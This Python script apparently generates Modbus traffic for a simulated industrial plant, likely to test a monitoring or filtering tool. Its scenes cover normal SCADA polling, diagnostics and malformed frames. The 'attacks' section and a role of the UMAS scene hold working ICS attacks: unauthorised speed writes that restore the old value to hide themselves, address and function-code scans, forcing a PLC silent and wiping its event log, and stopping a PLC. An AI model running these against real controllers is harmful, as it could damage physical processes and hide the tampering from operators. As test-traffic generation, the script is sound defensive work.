"""What the hosts of the plant do: `scenes.py SCENE [ARGUMENT...]`, run by ./record in the namespace of the host.

Each function is one scene; its docstring says who plays it. Clients are pymodbus where it can send what the scene
needs, raw ADUs (wire.py) where it cannot.
"""

import socket
import struct
import sys
import time

from pymodbus import FramerType, ModbusException
from pymodbus.client import ModbusTcpClient, ModbusUdpClient
from pymodbus.pdu.file_message import FileRecord

from wire import Client, adu, crc16, request

BRIDGE, PUMP, GATEWAY = "10.20.10.12", "10.20.10.13", "10.20.10.20"
BRIDGE6 = "fd20:10::12"
SPEED, COMMAND = 40, 41


def connect(host, port=502, framer=FramerType.SOCKET):
    client = ModbusTcpClient(host, port=port, framer=framer, timeout=1, retries=0)
    client.connect()
    return client


# ---------------------------------------------------------------- the operator's SCADA server


def poll(rounds="5", pause="0.5"):
    """SCADA-1 polls all controllers, and turns set points within their limits. Continues if one falls silent."""
    bridge, pump, gateway = connect(BRIDGE), connect(PUMP), connect(GATEWAY)
    for number in range(int(rounds)):
        try:
            poll_once(bridge, pump, gateway)
            operate(number, bridge, pump)
        except ModbusException:
            bridge.close()
            bridge.connect()
        time.sleep(float(pause))
    for client in (bridge, pump, gateway):
        client.close()


def poll_once(bridge, pump, gateway):
    bridge.read_holding_registers(0, count=42)
    bridge.read_coils(0, count=16)
    bridge.read_discrete_inputs(0, count=32)
    bridge.read_input_registers(0, count=10)
    pump.read_input_registers(0, count=4)
    pump.read_holding_registers(0, count=11)
    gateway.read_input_registers(0, count=8, device_id=1)
    gateway.read_coils(0, count=8, device_id=2)


def operate(number, bridge, pump):
    """What the operator does now and then: a step of 40 or less for the speed, of 10 for the level."""
    turn = number // 5 % 4
    speed = (110, 150, 190, 150)[turn]
    if number % 5 == 1:
        bridge.write_register(SPEED, speed)
        bridge.write_register(COMMAND, (1, 4, 2, 0)[turn])
    if number % 5 == 3:
        bridge.write_registers(SPEED, [speed, 4])
        bridge.write_coil(3, turn % 2 == 0)
        bridge.write_coils(0, [True, False, True])
        pump.write_register(10, (250, 260, 250, 240)[turn])


def beyond_limits():
    """SCADA-1, which may write these points, writes values that they may not have."""
    bridge = connect(BRIDGE)

    def write(*values, address=SPEED):
        bridge.read_holding_registers(SPEED, count=2)
        if len(values) == 1:
            bridge.write_register(address, values[0])
        else:
            bridge.write_registers(address, list(values))

    write(150)                        # fine, from 100
    write(120)                        # fine
    write(340)                        # step of 220, allowed 50
    write(345)                        # fine again
    write(360)                        # above 350
    write(900)                        # above 350, and a step of 540
    write(3, address=COMMAND)         # not in the list 0, 1, 2, 4
    write(65535, 4)                   # FC 16: speed above 350, command fine
    write(350, 7)                     # FC 16: step of 65185, command not in the list
    bridge.readwrite_registers(read_address=0, read_count=10, address=COMMAND, values=[9])   # FC 23: not in the list
    for speed in (300, 250, 200, 150):
        write(speed)                  # fine: back in steps of 50
    write(0, address=COMMAND)         # fine
    bridge.close()


def idle_then_poll(rounds="8"):
    """SCADA-1 keeps one connection; the capture starts in the middle of it."""
    bridge = connect(BRIDGE)
    for _ in range(int(rounds)):
        bridge.read_holding_registers(0, count=40)
        bridge.read_coils(0, count=16)
        time.sleep(0.25)
    bridge.write_register(SPEED, 120)
    bridge.write_register(100, 7)     # address that no point names
    time.sleep(0.2)
    bridge.close()


def poll_registers(rounds="20", pause="0.05"):
    """SCADA-1 reads and writes PLC-BRIDGE quickly: raw material for the lossy capture."""
    bridge = connect(BRIDGE)
    for number in range(int(rounds)):
        bridge.read_holding_registers(0, count=40)
        bridge.read_coils(0, count=16)
        if number % 5 == 0:
            bridge.write_register(SPEED, 100 + number)
        time.sleep(float(pause))
    bridge.write_register(110, 1)     # address that no point names
    bridge.close()


def pipelined():
    """SCADA-1 by hand: several requests in one segment, constant ids, ids reused, a PDU in pieces."""
    pump = Client(PUMP)
    # Three requests in one segment, three answers in order.
    pump.send(b"".join(adu(tid, 1, request(3, 0, tid)) for tid in (1, 2, 3)))
    [pump.receive() for _ in range(3)]
    # Eight outstanding at once, one segment each.
    for tid in range(10, 18):
        pump.send(adu(tid, 1, request(4, tid - 10, 1)))
    [pump.receive() for _ in range(8)]
    # Some clients never count: always id 0.
    for address in range(5):
        pump.ask(request(3, address, 1), tid=0)
    # Two outstanding with the same id and function.
    pump.send(adu(7, 1, request(3, 0, 2)) + adu(7, 1, request(3, 4, 3)))
    pump.receive(), pump.receive()
    # The id wraps.
    for tid in (65534, 65535, 0, 1):
        pump.ask(request(1, 0, 4), tid=tid)
    # One request in three segments, and one and a half requests in one segment.
    whole = adu(30, 1, request(3, 0, 10))
    for piece in (whole[:5], whole[5:9], whole[9:]):
        pump.send(piece)
        time.sleep(0.05)
    pump.receive()
    two = adu(31, 1, request(3, 0, 4)) + adu(32, 1, request(6, 10, 245))
    pump.send(two[:18])
    time.sleep(0.05)
    pump.send(two[18:])
    pump.receive(), pump.receive()
    pump.close()
    # A gateway answers out of order: unit 7 is slow.
    gateway = Client(GATEWAY, timeout=2)
    gateway.send(adu(100, 7, request(3, 0, 2)))
    for tid in (101, 102, 103):
        gateway.send(adu(tid, tid % 2 + 1, request(4, 0, tid - 100)))
    gateway.send(adu(104, 7, request(4, 0, 5)))
    [gateway.receive() for _ in range(5)]
    gateway.close()


def malformed():
    """SCADA-1 by hand: PDUs that break the specification, on a conduit that permits reading and writing."""
    cases = [
        request(3, 0, 0),                                       # quantity 0
        request(3, 0, 126),                                     # quantity above 125
        request(1, 0, 2001),                                    # quantity above 2000
        request(4, 65535, 2),                                   # beyond the last address
        request(5, 3, 0x1234),                                  # coil value neither 0000 nor FF00
        request(16, SPEED, 2) + b"\x02" + bytes(2),             # byte count does not fit the quantity
        request(16, SPEED, 1) + b"\x02\x00\x64\x00\x00",        # bytes left over
        request(3, 0),                                          # quantity missing
        b"\x14\x06\x06\x00\x01\x00\x00\x00",                    # file sub-request cut short
    ]
    bridge = Client(BRIDGE, timeout=0.3)
    for pdu in cases:
        bridge.ask(pdu)
        bridge.ask(request(3, 0, 2))                            # decoding continues behind each
    bridge.close()
    # A header whose length is beyond 254, then good requests on the same connection. (libmodbus ignores the length, so it answers
    # all of them.)
    pump = Client(PUMP, timeout=0.3)
    pump.ask(request(3, 0, 2))
    pump.send(struct.pack(">HHHB", 9, 0, 4000, 1) + request(3, 0, 2))
    pump.receive()
    for _ in range(4):
        pump.ask(request(3, 0, 2))
    pump.close()


def gateway_units():
    """SCADA-1 asks devices behind the gateway: some answer, one is silent, one is dead, one has no line."""
    gateway = Client(GATEWAY, timeout=1)
    for _ in range(2):
        gateway.ask(request(4, 0, 8), unit=1)
        gateway.ask(request(1, 0, 8), unit=2)
        gateway.ask(request(3, 0, 4), unit=7)
        gateway.ask(request(3, 0, 4), unit=9)                   # silence
        gateway.ask(request(3, 0, 4), unit=11)                  # 0B
        gateway.ask(request(3, 0, 4), unit=40)                  # 0A, and no point names unit 40
    gateway.ask(request(6, 0, 500), unit=1)                     # valve set point: declared
    gateway.ask(request(6, 0, 500), unit=2)                     # same register, other unit: not declared
    gateway.ask(request(5, 3, 0xFF00), unit=9)                  # a write without an answer: not declared
    time.sleep(3)
    gateway.close()


def rtu_over_tcp():
    """SCADA-1 sends RTU frames over TCP to the serial server's raw port."""
    valves = connect(GATEWAY, 4001, FramerType.RTU)
    for _ in range(4):
        valves.read_input_registers(0, count=8, device_id=1)
        valves.read_coils(0, count=8, device_id=2)
        time.sleep(0.1)
    valves.write_register(0, 400, device_id=1)                  # declared
    valves.write_register(20, 400, device_id=1)                 # no point names register 20
    valves.write_registers(0, [700], device_id=1)
    valves.read_holding_registers(190, count=20, device_id=1)   # answered with exception 02
    valves.close()
    raw = socket.create_connection((GATEWAY, 4001), timeout=1)
    for pdu in (request(4, 0, 8), request(4, 0, 4)):
        frame = b"\x01" + pdu
        raw.sendall(frame[:4])                                  # a frame in two segments
        time.sleep(0.05)
        raw.sendall(frame[4:] + crc16(frame))
        raw.recv(256)
    raw.close()


def udp(write="40"):
    """SCADA-1 (register 40, declared) or JUMP-1 (register 40, not declared) over Modbus/UDP."""
    bridge = ModbusUdpClient(BRIDGE, timeout=1, retries=0)
    bridge.connect()
    for _ in range(3):
        bridge.read_holding_registers(0, count=10)
    bridge.write_register(int(write), 130)
    bridge.close()


def big_udp():
    """SCADA-1 reads 125 registers at a time over UDP, which a small MTU cuts into fragments."""
    bridge = ModbusUdpClient(BRIDGE, timeout=1, retries=0)
    bridge.connect()
    for _ in range(3):
        bridge.read_holding_registers(0, count=40)
        bridge.read_holding_registers(0, count=125)             # goes beyond the declared points
    bridge.write_registers(100, list(range(100)))               # a request in fragments: not declared
    bridge.close()


def ipv6(role):
    """SCADA-1 polls over IPv6 and stays within its flow, JUMP-1 writes."""
    bridge = connect(BRIDGE6)
    for _ in range(3):
        bridge.read_holding_registers(0, count=40)
    bridge.write_register(SPEED, 120 if role == "scada" else 900)
    bridge.close()


# ---------------------------------------------------------------- engineering


def engineering():
    """EWS-1 identifies, diagnoses and configures PLC-BRIDGE, and reads from PLC-PUMP."""
    bridge = Client(BRIDGE)
    for read_code in (1, 2, 3):
        bridge.ask(bytes([43, 14, read_code, 0]))               # read device identification
    bridge.ask(bytes([43, 14, 4, 5]))                           # one object: model name
    bridge.ask(b"\x11")                                         # report server id
    bridge.ask(b"\x07")                                         # exception status
    bridge.ask(b"\x0b")                                         # comm event counter
    bridge.ask(b"\x0c")                                         # comm event log
    for sub, data in ((0, 0x1234), (2, 0), (11, 0), (12, 0), (13, 0), (14, 0), (15, 0), (18, 0), (10, 0), (20, 0)):
        bridge.ask(request(8, sub, data))
    bridge.ask(request(22, 100, 0xFFF0, 0x0005))                # mask write
    bridge.ask(request(23, 0, 10, 100, 2) + b"\x04\x00\x07\x00\x08")   # read/write multiple
    bridge.ask(request(24, 50))                                 # FIFO queue
    bridge.close()
    client = connect(BRIDGE)
    client.read_file_record([FileRecord(file_number=4, record_number=1, record_length=20),
                             FileRecord(file_number=3, record_number=9, record_length=20)])
    client.write_file_record([FileRecord(file_number=4, record_number=7, record_data=b"\x06\xaf\x04\xbe\x10\x0d")])
    client.close()
    pump = connect(PUMP)
    pump.report_device_id()
    pump.mask_write_register(address=20, and_mask=0xF2, or_mask=0x25)
    pump.readwrite_registers(read_address=0, read_count=5, address=20, values=[1, 2, 3])
    pump.read_device_information()                              # libmodbus: exception 01
    pump.close()


def umas(role="ews"):
    """EWS-1 opens Unity Pro style work on PLC-BRIDGE; JUMP-1 stops it. Hand-made: no open stack supports UMAS."""
    bridge = Client(BRIDGE)

    def ask(function, data=b"", key=0):
        return bridge.ask(bytes([0x5A, key, function]) + data, unit=0)

    ask(0x01, b"\x00")                                          # initialise
    ask(0x02)                                                   # read id
    if role == "jump":
        ask(0x41, b"\xff\x00")                                  # stop PLC, without a reservation
        ask(0x23, bytes.fromhex("01000000000a00022823"))        # write variables
    else:
        ask(0x03, b"\x00")                                      # project information
        ask(0x04)                                               # PLC status
        key = ask(0x10, b"\x00\x00\x00\x00\x05EWS-1")[-1]       # take reservation
        ask(0x12, key=key)                                      # keep alive
        ask(0x20, bytes.fromhex("01140000000000000200"), key)   # read memory block
        ask(0x22, bytes.fromhex("0100000001020a00"), key)       # read variables
        ask(0x58, b"\x01", key)                                 # check
        ask(0x41, b"\xff\x00", key)                             # stop
        ask(0x40, b"\xff\x00", key)                             # start
        ask(0x36, b"\x00", key)                                 # a function without a name: refused
        ask(0x11, key=key)                                      # release reservation
    bridge.close()


# ---------------------------------------------------------------- attacks


def undeclared_write():
    """JUMP-1, which may only read, writes the bridge's speed."""
    bridge = connect(BRIDGE)
    for _ in range(3):
        bridge.read_holding_registers(0, count=10)
    bridge.write_register(SPEED, 900)
    bridge.write_register(COMMAND, 1)
    bridge.write_coils(0, [True] * 8)
    bridge.read_holding_registers(0, count=10)
    bridge.write_register(SPEED, 150)                           # and puts back what the operator expects to see
    bridge.close()


def address_scan():
    """JUMP-1 sweeps tables of PLC-BRIDGE: far beyond what it may read, and beyond what exists."""
    bridge = Client(BRIDGE)
    for address in range(0, 280, 10):
        bridge.ask(request(3, address, 10))
    for function, last in ((1, 80), (2, 80), (4, 48)):
        for address in range(0, last, 16):
            bridge.ask(request(function, address, 16))
    for address in (1000, 10000, 40001, 65535):
        bridge.ask(request(3, address, 1))
    bridge.close()


def function_scan(host=BRIDGE):
    """JUMP-1 tries every function code with the same four bytes, as scanners do."""
    server = Client(host, timeout=0.1)
    for function in range(1, 128):
        server.ask(request(function, 0, 1))
        time.sleep(0.002)
    server.close()


def listen_only():
    """JUMP-1 silences PLC-BRIDGE, covers its tracks, and wakes it."""
    bridge = Client(BRIDGE, timeout=0.5)
    bridge.ask(request(3, 0, 10))
    bridge.ask(request(8, 4, 0))                                # force listen only: no answer
    bridge.ask(request(3, 0, 10))                               # no answer
    bridge.ask(request(8, 10, 0))                               # clear counters: no answer
    bridge.ask(request(8, 1, 0))                                # restart: ends the silence, itself not answered
    bridge.ask(request(3, 0, 10))
    bridge.ask(request(8, 10, 0))                               # clear counters
    bridge.ask(request(8, 1, 0xFF00))                           # restart, and clear the event log
    bridge.close()
    time.sleep(3)


def new_host():
    """An undeclared host reads, then writes."""
    bridge = connect(BRIDGE)
    bridge.read_device_information()
    for _ in range(3):
        bridge.read_holding_registers(0, count=42)
    bridge.write_register(COMMAND, 2)
    bridge.close()


if __name__ == "__main__":
    globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
